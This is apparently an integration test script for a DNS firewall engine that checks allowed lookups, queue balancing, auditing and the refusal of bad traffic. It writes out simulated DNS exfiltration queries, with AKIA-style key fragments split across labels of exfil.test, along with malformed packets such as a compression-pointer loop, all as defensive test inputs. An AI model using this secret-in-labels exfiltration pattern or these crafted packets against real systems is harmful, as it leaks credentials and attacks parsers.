#!/usr/bin/env bash
# t_nfq_dns.sh - agent DNS through NFQUEUE and the engine's queue workers,
# with a real resolver (dnsmasq, --log-queries) in the "internet" namespace
# and the agent's resolv.conf pointing at it: `getent hosts allowed.test`
# resolves (IPv4 resolver; the IPv6 resolver by a raw query); an AKIA key
# split over labels, a blocklisted name and DNS to a non-resolver are
# refused in under 1 s (getent and raw queries) and the resolver never sees
# them; a query with an extra answer record or trailing bytes, and raw
# garbage, are dropped and the engine stays alive; other UDP (IPv4 and
# IPv6) is refused.  The engine applies the firewall itself (--apply) with
# two workers: queues 0-1, both bound, flows balanced over them.
set -eu
. tests/integration/lib.sh
. tests/integration/helpers/nfq.sh

topo_up
plfw_ready || skip "pipelock-fw firewall/run not built"
need_cmd dnsmasq nft

DNS_LOG=$TEST_TMP/dnsmasq.log
# 16 more resolver addresses: the kernel balances a queue range by a hash of
# the address pair (ports are not hashed), so spreading flows over queues
# needs several destinations
EXTRA=""
for i in $(seq 10 25); do
	in_net ip addr add "198.18.0.$i/24" dev "$NET_IF"
	EXTRA="$EXTRA 198.18.0.$i"
done
# shellcheck disable=SC2046
nfq_dnsmasq "$NET_NS" "$V4_UP" "$DNS_LOG" --listen-address="$V6_UP" \
	--address=/dnsok.test/"$V4_UP" --address=/exfil.test/"$V4_UP" \
	--address=/allowed.test/"$V4_UP" --address=/blocked.test/"$V4_UP" \
	$(for a in $EXTRA; do printf -- '--listen-address=%s ' "$a"; done)

# names come from DNS only (the lib's hosts file maps allowed.test)
printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$HOST_NS/hosts"
make_config "dns_servers: [\"$V4_UP\", \"$V6_UP\"$(for a in $EXTRA; do printf ', \"%s\"' "$a"; done)]" "ipv6: true"
engine_start --config "$PLFW_CONFIG" --apply --workers 2 -v
wait_until 5 grep -q 'nfq 1: queue bound' "$TEST_TMP/engine.err" ||
	fail "the engine did not bind queues 0 and 1: $(cat "$TEST_TMP/engine.err")"
grep -q 'nfq 0: queue bound' "$TEST_TMP/engine.err" || fail "queue 0 not bound"
in_host "$PLFW" firewall status >"$TEST_TMP/status" || fail "status"
grep -q 'q=0/2' "$TEST_TMP/status" || fail "--apply with 2 workers did not queue to 0-1: $(cat "$TEST_TMP/status")"
# The fast-refusal contract of nfq/nfq.h: a rule rejecting NFQ_MARK_REJECT.
fast=0
in_host nft list table inet pipelock 2>/dev/null | grep -q '0x00400000' && fast=1
((fast)) || fail "no NFQ_MARK_REJECT rule in the ruleset"

# query SERVER HEXBYTES -- send one raw DNS message as the agent; prints
# "answer", "timeout" or the errno, then the elapsed ms.
cat >"$TEST_TMP/dnsq.py" <<'EOF'
import socket, sys, time
srv, msg = sys.argv[1], bytes.fromhex(sys.argv[2])
fam = socket.AF_INET6 if ":" in srv else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.settimeout(2)
t0 = time.monotonic()
try:
    s.connect((srv, 53))
    s.send(msg)
    s.recv(4096)
    r = "answer"
except socket.timeout:
    r = "timeout"
except OSError as e:
    r = str(e.errno)
print(r, int((time.monotonic() - t0) * 1000))
EOF
chmod 0644 "$TEST_TMP/dnsq.py"
# qhex NAME [EXTRA] -- a query for NAME (A, RD); EXTRA=answer adds ANCOUNT=1,
# EXTRA=trailing adds a byte after the question.
qhex() {
	"$PY" - "$1" "${2:-}" <<'EOF'
import struct, sys
name, extra = sys.argv[1], sys.argv[2]
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 1 if extra == "answer" else 0, 0, 0)
for l in name.split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
if extra == "trailing":
    q += b"\0"
print(q.hex())
EOF
}
query() { as_agent "$PY" "$TEST_TMP/dnsq.py" "$1" "$2"; }
saw() { grep -q -- "$1" "$DNS_LOG"; }

# 1. a real lookup through the system resolver (resolv.conf -> $V4_UP)
nfq_lookup allowed.test
[[ $L == ok ]] || fail "getent hosts allowed.test failed"
grep -q "$V4_UP" "$TEST_TMP/getent.out" || fail "getent: $(cat "$TEST_TMP/getent.out")"
saw 'query\[A\] allowed.test' || fail "dnsmasq did not log allowed.test"
nfq_lookup dnsok.test
[[ $L == ok ]] || fail "getent hosts dnsok.test failed"
read -r r _ <<<"$(query "$V6_UP" "$(qhex v6.dnsok.test)")"
[[ $r == answer ]] || fail "query to the IPv6 resolver: $r"
saw 'v6.dnsok.test' || fail "dnsmasq did not log the IPv6 query"

# 2. refused: secret in labels, blocklisted name, resolver never sees them
refused() {
	local what=$1 srv=$2 hex=$3 r ms
	read -r r ms <<<"$(query "$srv" "$hex")"
	if ((fast)); then
		[[ $r != answer && $r != timeout ]] || fail "$what: $r, want a refusal"
		((ms < 1000)) || fail "$what: refused only after $ms ms"
	else
		[[ $r != answer ]] || fail "$what: answered"
		log "$what: $r in $ms ms (no NFQ_MARK_REJECT rule: not fast)"
	fi
}
refused "AKIA key in labels" "$V4_UP" "$(qhex akia2e3r4t.5y6u7i8o9p.exfil.test)"
refused "blocklisted name" "$V4_UP" "$(qhex blocked.test)"
refused "AKIA key in labels (IPv6 resolver)" "$V6_UP" "$(qhex akiaq2w3e4r5t.6y7u8i9o0p.exfil.test)"
# the same through the agent's real resolver library: fails, and fast
for name in AKIAZ7Y6X5W4.V3U2T1S0R9Q8.exfil.test blocked.test; do
	nfq_lookup "$name"
	[[ $L == fail ]] || fail "getent $name resolved"
	((L_MS < 1000)) || fail "getent $name refused only after $L_MS ms"
done
! grep -qi 'akia' "$DNS_LOG" || fail "the resolver saw the secret"
! saw 'query\[A\] blocked.test' || fail "the resolver saw the blocklisted name"

# 3. DNS to an address that is not a configured resolver: refused fast
read -r r ms <<<"$(query "$V4_UP2" "$(qhex dnsok.test)")"
[[ $r != answer && $r != timeout ]] || fail "DNS to a non-resolver: $r"
((ms < 1000)) || fail "DNS to a non-resolver refused only after $ms ms"

# 4. malformed shapes: dropped silently, never forwarded, engine alive
read -r r _ <<<"$(query "$V4_UP" "$(qhex extra.dnsok.test answer)")"
[[ $r == timeout ]] || fail "query with an answer record: $r, want timeout (dropped)"
read -r r _ <<<"$(query "$V4_UP" "$(qhex trail.dnsok.test trailing)")"
[[ $r == timeout ]] || fail "query with trailing bytes: $r, want timeout (dropped)"
! saw 'extra.dnsok.test' || fail "the resolver saw the query with an answer record"
! saw 'trail.dnsok.test' || fail "the resolver saw the query with trailing bytes"
# raw garbage and a compression-pointer loop, from a raw script
read -r r _ <<<"$(query "$V4_UP" 00ff0100000100000000000001)"
[[ $r == timeout ]] || fail "truncated header: $r, want timeout (dropped)"
read -r r _ <<<"$(query "$V4_UP" 4243010000010000000000000c000001000100)"
[[ $r == timeout ]] || fail "pointer loop: $r, want timeout (dropped)"
read -r r _ <<<"$(query "$V6_UP" "$(head -c 300 /dev/urandom | od -An -tx1 | tr -d ' \n')")"
[[ $r == timeout ]] || fail "random bytes (IPv6): $r, want timeout (dropped)"
pid_alive "$ENGINE_PID" || fail "engine died"
read -r r _ <<<"$(query "$V4_UP" "$(qhex after.dnsok.test)")"
[[ $r == answer ]] || fail "a good query after the malformed ones: $r"

# 5. other UDP, IPv4 and IPv6: refused at once, never delivered
for addr in "$V4_UP" "$V6_UP"; do
	r=$(nfq_udp_try "$AGENT_UID" "$addr" 9000)
	[[ $r != reply && $r != timeout ]] || fail "UDP to [$addr]:9000: $r, want a fast refusal"
done

# 6. flows to 16 resolver addresses were spread over both queues (address
# pair hash): the kernel's per-queue packet id counter moved on each
# (/proc/net/netfilter/nfnetlink_queue: field 8 is the last packet id)
in_host cat /proc/net/netfilter/nfnetlink_queue >"$TEST_TMP/queues0"
for a in $EXTRA; do
	read -r r _ <<<"$(query "$a" "$(qhex "n$a.dnsok.test")")"
	[[ $r == answer ]] || fail "query to resolver $a: $r"
done
in_host cat /proc/net/netfilter/nfnetlink_queue >"$TEST_TMP/queues1"
for q in 0 1; do
	a=$(awk -v q="$q" '$1 == q { print $8 }' "$TEST_TMP/queues0")
	b=$(awk -v q="$q" '$1 == q { print $8 }' "$TEST_TMP/queues1")
	((b > a)) || fail "queue $q got none of 16 flows: $(cat "$TEST_TMP/queues1")"
done

# 7. the blocks are audited
grep -q '"event":"dns"' "$TEST_TMP/audit.log" || fail "no dns audit event"
! grep -qi '5y6u7i8o9p' "$TEST_TMP/audit.log" || fail "the audit log holds the secret"
log "ok (fast refusal tested: $fast)"
